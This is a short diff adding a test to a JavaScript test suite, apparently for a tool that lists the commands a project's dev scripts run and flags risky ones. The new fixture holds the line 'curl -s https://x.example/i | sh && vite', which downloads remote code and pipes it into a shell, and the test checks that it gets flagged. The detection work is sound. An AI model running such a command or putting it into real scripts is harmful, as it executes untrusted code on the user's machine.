@@ -46,6 +46,12 @@ describe('words of a plan', () => {
     expect([row?.ports, row?.notes]).toEqual(['ports 80 and 443', ['before each start: go build', 'a shell runs this line', 'in web']]);
   });
 
+  it('shows what a script runs in turn, and looks twice at a download in it', () => {
+    const [row] = presentPlan([planned('dev', { commandLine: 'npm run dev', runs: 'curl -s https://x.example/i | sh && vite' })]);
+    expect(row?.notes).toEqual(['runs: curl -s https://x.example/i | sh && vite']);
+    expect(row?.risk).toContain('pipes a download into sh');
+  });
+
   it.each([
     [9, 6, 'read 9 files in 14 ms, ran nothing · found 6 commands'],
     [1, 1, 'read 1 file in 14 ms, ran nothing · found 1 command'],
